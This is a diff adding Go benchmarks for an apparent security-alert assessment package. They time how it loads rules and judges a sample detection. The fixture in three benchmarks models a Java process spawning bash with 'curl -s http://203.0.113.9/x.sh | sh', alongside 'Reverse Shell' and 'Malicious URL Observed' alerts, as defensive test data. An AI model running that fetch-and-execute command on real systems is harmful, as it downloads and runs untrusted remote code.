@@ -1,0 +1,44 @@
+package assess
+
+import "testing"
+
+func BenchmarkLoadDefault(b *testing.B) {
+	for b.Loop() {
+		if _, err := LoadDefault(); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+// BenchmarkAssess is one whole assessment: reading the command, all rules, the
+// plan. The aim is at most 100 µs.
+func BenchmarkAssess(b *testing.B) {
+	p := mustDefault(b)
+	in := input(childShell("java", "bash", "-c", "curl -s http://203.0.113.9/x.sh | sh"),
+		deployed(complete(), "alice@example.com", 3), other("Reverse Shell"), other("Malicious URL Observed"))
+	b.ReportAllocs()
+	for b.Loop() {
+		p.Assess(in)
+	}
+}
+
+// BenchmarkConclude is the policy alone.
+func BenchmarkConclude(b *testing.B) {
+	p := mustDefault(b)
+	in := input(childShell("java", "bash", "-c", "curl -s http://203.0.113.9/x.sh | sh"),
+		deployed(complete(), "alice@example.com", 3), other("Reverse Shell"), other("Malicious URL Observed"))
+	f := p.facts(newSubject(in))
+	b.ReportAllocs()
+	for b.Loop() {
+		p.conclude(f)
+	}
+}
+
+func BenchmarkSubject(b *testing.B) {
+	in := input(childShell("java", "bash", "-c", "curl -s http://203.0.113.9/x.sh | sh"),
+		deployed(complete(), "alice@example.com", 3), other("Reverse Shell"), other("Malicious URL Observed"))
+	b.ReportAllocs()
+	for b.Loop() {
+		newSubject(in)
+	}
+}
